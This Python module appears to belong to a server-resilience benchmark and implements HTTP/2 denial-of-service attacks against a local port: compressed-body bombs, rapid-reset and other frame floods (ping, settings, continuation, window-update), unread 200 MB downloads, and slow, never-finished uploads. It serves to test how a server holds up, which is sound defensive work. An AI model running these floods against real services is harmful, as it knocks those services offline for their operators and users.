"""Attacks over HTTP/2: each sends something to a port, and counts what it is answered."""

import asyncio
import contextlib
from collections import Counter

import hpack
from benchmarks.starve.bodies import BODIES, CODINGS
from benchmarks.starve.http1_attacks import ENOUGH, HOLD, PIECE, Answers
from benchmarks.starve.http2 import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    Http2,
    frame,
    head,
)


class Bomb:
    """A costly body in some streams of some HTTP/2 connections."""

    def __init__(self, name: str, coding: str, *, padded: bool = False, streams: int = 1, connections: int = 1) -> None:
        body = BODIES[name]
        self.encoded = CODINGS[coding](body.plain(padded=padded))
        fields = {"content-type": body.content_type, "content-length": str(len(self.encoded))}
        self._fields = fields if coding == "identity" else {**fields, "content-encoding": coding}
        self._streams, self._connections = streams, connections

    async def __call__(self, port: int) -> Answers:
        """Send it, and wait for the answers."""
        answers = await asyncio.gather(*(self._connection(port) for _ in range(self._connections)))
        return sum(answers, Counter[str]())

    async def _connection(self, port: int) -> Answers:
        client = await Http2.connected(port)
        client.reads()
        streams = range(1, 2 * self._streams, 2)
        for stream in streams:
            client.write(client.headers(stream, "POST", "/rest/api/2/user", *self._fields.items()))
        with contextlib.suppress(OSError):
            await asyncio.gather(*(client.data(stream, self.encoded) for stream in streams))
        await client.until(self._streams, ENOUGH)
        await client.close()
        return client.answers


class Flood:
    """Frames on one HTTP/2 connection, as fast as they are taken."""

    def __init__(self, kind: str, count: int) -> None:
        self._kind, self._count = kind, count

    def frames(self, encoder: hpack.Encoder) -> bytes:
        """All of them."""
        if self._kind == "rapid-reset":
            path = "/rest/api/2/issue/A-1"
            return b"".join(
                head(encoder, stream, "GET", path, flags=END_HEADERS | END_STREAM)
                + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")
                for stream in range(1, 2 * self._count, 2)
            )
        start, repeated = {
            "ping": (b"", frame(PING, 0, 0, bytes(8))),
            "settings": (b"", frame(SETTINGS, 0, 0)),
            "window-update": (b"", frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\x01")),
            "priority": (b"", frame(PRIORITY, 0, 1, b"\0\0\0\0\x01")),
            "empty-data": (head(encoder, 1, "POST", "/rest/api/2/issue/A-1/attachments"), frame(DATA, 0, 1)),
            "continuation": (frame(HEADERS, 0, 1), frame(CONTINUATION, 0, 1)),
        }[self._kind]
        return start + repeated * self._count

    async def __call__(self, port: int) -> Answers:
        """Send them, and read until the connection ends."""
        client = await Http2.connected(port)
        client.reads()
        frames = self.frames(client.encoder)
        with contextlib.suppress(OSError):
            for at in range(0, len(frames), len(PIECE) // 16):
                client.write(frames[at : at + len(PIECE) // 16])
                await client.drain()
        await client.until(self._count, 3.0)
        await client.close()
        return client.answers


class Unread:
    """Requests of 200 MB whose answer is not read."""

    def __init__(self, streams: int, window: int | None = None, *, reads: bool = True) -> None:
        self._streams, self._window, self._reads = streams, window, reads

    async def __call__(self, port: int) -> Answers:
        """Send them, and hold the connection."""
        client = await Http2.connected(port, self._window)
        if self._reads:
            client.reads()
        for stream in range(1, 2 * self._streams, 2):
            client.write(client.headers(stream, "GET", "/download/200", flags=END_HEADERS | END_STREAM))
        await asyncio.sleep(HOLD)
        await client.close()
        return client.answers


class Upload:
    """Bodies that are sent as far as they are taken, and not ended."""

    def __init__(self, path: str, *, streams: int = 1, connections: int = 1, size: int = 143_000_000) -> None:
        self._path, self._streams, self._connections, self._size = path, streams, connections, size

    async def __call__(self, port: int) -> Answers:
        """Send for a while."""
        sent = await asyncio.gather(*(self._connection(port) for _ in range(self._connections)))
        return sum(sent, Counter[str]())

    async def _connection(self, port: int) -> Answers:
        client = await Http2.connected(port)
        client.reads()
        streams = range(1, 2 * self._streams, 2)
        fields = (("content-type", "application/json"), ("content-length", str(self._size + 1)))
        for stream in streams:
            client.write(client.headers(stream, "POST", self._path, *fields))
        body = bytes(self._size)
        with contextlib.suppress(OSError, TimeoutError):
            async with asyncio.timeout(HOLD):
                await asyncio.gather(*(client.data(stream, body, end=False) for stream in streams))
                await client.until(self._streams, HOLD)
        answers = client.answers + Counter({"MB sent": client.sent // 1_000_000})
        await client.close()
        return answers
